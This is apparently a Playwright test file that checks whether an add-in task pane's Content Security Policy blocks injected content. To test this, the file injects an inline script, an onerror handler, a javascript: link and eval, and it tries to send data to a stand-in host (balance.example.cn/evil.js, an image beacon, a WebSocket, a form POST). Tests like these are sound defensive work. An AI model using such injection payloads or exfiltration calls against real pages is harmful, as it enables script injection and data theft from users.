import { chromium } from "playwright-core";
import type { Frame, Page } from "playwright-core";
import { startServer } from "../../src/preview/server/serve";
import { eventually } from "../support/eventually";
import { findBrowser } from "../support/findBrowser";
import { startPreviewSession } from "../support/openPreview";
import type { OpenPreview, PreviewSession } from "../support/openPreview";

let session: PreviewSession;
beforeAll(async () => {
  session = await startPreviewSession();
}, 120_000);
afterAll(() => session.close());

/** The pane's document; the page around it is the preview's. */
function paneFrame(page: Page): Frame {
  const frame = page.frames().find((each) => each.url().includes("/addin/taskpane.html"));
  if (!frame) throw new Error("the pane is not loaded");
  return frame;
}

/** What a page's own script would meet: not from the debugger, which may do what the policy forbids. */
function attempts(frame: Frame): Promise<Record<string, unknown>> {
  return frame.evaluate(
    () =>
      new Promise<Record<string, unknown>>((resolve) => {
        const refused: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) => {
          refused.push(event.effectiveDirective);
        });
        const happened: string[] = [];
        Object.assign(window, { happened });
        setTimeout(() => {
          void (async () => {
            const script = document.createElement("script");
            script.textContent = 'happened.push("inline script")';
            document.body.append(script);
            const image = document.createElement("div");
            image.innerHTML = `<img src="nothing.png" onerror="happened.push('handler')">`;
            document.body.append(image);
            const link = document.createElement("a");
            link.href = "javascript:happened.push('link')";
            document.body.append(link);
            link.click();
            const style = document.createElement("style");
            style.textContent = "#pane { visibility: hidden }";
            document.body.append(style);
            for (const code of [() => eval("1"), () => new Function("return 1")() as unknown])
              try {
                code();
                happened.push("code from text");
              } catch {
                // As it should be.
              }
            await fetch("functions.json").then(
              () => happened.push("fetch"),
              () => undefined,
            );
            await new Promise<void>((done) => {
              const request = new XMLHttpRequest();
              request.onload = () => {
                happened.push("request");
                done();
              };
              request.onerror = () => done();
              request.open("GET", "functions.json");
              request.send();
            });
            navigator.sendBeacon("functions.json", "sheet");
            try {
              new WebSocket("wss://balance.example.cn/");
            } catch {
              // Refused at once, or by the event.
            }
            const foreign = document.createElement("script");
            foreign.src = "https://balance.example.cn/evil.js";
            document.body.append(foreign);
            const picture = new Image();
            picture.src = "https://balance.example.cn/?sheet=1";
            setTimeout(() => {
              if (getComputedStyle(document.getElementById("pane")!).visibility === "hidden")
                happened.push("inline style");
              resolve({ happened, refused: [...new Set(refused)].sort() });
            }, 500);
          })();
        }, 0);
      }),
  );
}

async function everyPage({ page, pane }: OpenPreview): Promise<void> {
  const back = async (): Promise<void> =>
    pane.getByRole("button", { name: "返回", exact: true }).click();
  for (const name of ["收集填报表", "函数", "帮助"]) {
    await pane.getByRole("navigation").getByRole("button", { name }).click();
    await pane.getByRole("heading", { name, level: 1 }).waitFor();
    await back();
  }
  await page.locator("#ribbon-Balance\\.CheckSheet").click();
  await pane.locator("[data-school]").first().waitFor();
  await pane.getByRole("button", { name: /标准/u }).click();
  await pane.getByRole("menuitemradio").first().waitFor();
  await page.keyboard.press("Escape");
  await pane.getByRole("button", { name: "查看" }).click();
  await back();
  await pane.getByRole("button", { name: "表头对应" }).click();
  await pane.getByRole("heading", { level: 1 }).waitFor();
  await back();
  await pane.getByRole("tab", { name: "差异系数" }).click();
  await pane.getByRole("option").first().waitFor();
}

test.each(["light", "dark"])(
  "every page of the pane works in %s under the policy, with nothing refused",
  async (theme) => {
    const preview = await session.open({ theme });
    await everyPage(preview);
    // Chromium logs whatever the policy refuses as an error, in the page and in the pane.
    expect(preview.errors).toEqual([]);
    // Fluent's styles are there: a pane without them has no height.
    const height = await preview.pane.locator("#pane > div > div").evaluate((root) => ({
      display: getComputedStyle(root).display,
      overflow: getComputedStyle(root).overflow,
    }));
    expect(height).toEqual({ display: "flex", overflow: "hidden" });
    await preview.page.close();
  },
  120_000,
);

test("in the pane an injected script, handler, style, address or picture is refused, and so is every way out", async () => {
  const { page } = await session.open();
  const { happened, refused } = await attempts(paneFrame(page));
  expect(happened).toEqual([]);
  expect(refused).toEqual([
    "connect-src",
    "img-src",
    "script-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
  ]);
  await page.close();
});

test("a form put into the pane sends nothing anywhere", async () => {
  const { page, errors } = await session.open();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await paneFrame(page).evaluate(() => {
    const form = document.createElement("form");
    form.action = "https://balance.example.cn/";
    form.method = "post";
    document.body.append(form);
    setTimeout(() => form.submit(), 0);
  });
  await eventually(
    () => Promise.resolve(errors.join()),
    (said) => expect(said).toContain("form-action 'none'"),
  );
  expect(asked.filter((address) => address.includes("balance.example.cn"))).toEqual([]);
  await page.close();
});

test("the support page shows both languages with its style and runs no script at all", async () => {
  const server = await startServer({ port: 0 });
  const browser = await chromium.launch({
    executablePath: findBrowser()!,
    args: ["--no-sandbox", "--disable-gpu"],
  });
  try {
    const page = await browser.newPage();
    const errors: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error") errors.push(message.text());
    });
    const response = await page.goto(`${server.url}addin/assets/support.html`);
    expect(errors).toEqual([]);
    expect(response!.headers()["content-security-policy"]).toContain("default-src 'none'");
    expect(await page.evaluate(() => getComputedStyle(document.body).maxWidth)).toBe("640px");
    const { happened } = await page.evaluate(
      () =>
        new Promise<{ happened: string[] }>((resolve) => {
          const seen: string[] = [];
          Object.assign(window, { happened: seen });
          const script = document.createElement("script");
          script.textContent = 'happened.push("inline script")';
          document.body.append(script);
          setTimeout(() => resolve({ happened: seen }), 100);
        }),
    );
    expect(happened).toEqual([]);
  } finally {
    await browser.close();
    await server.close();
  }
});
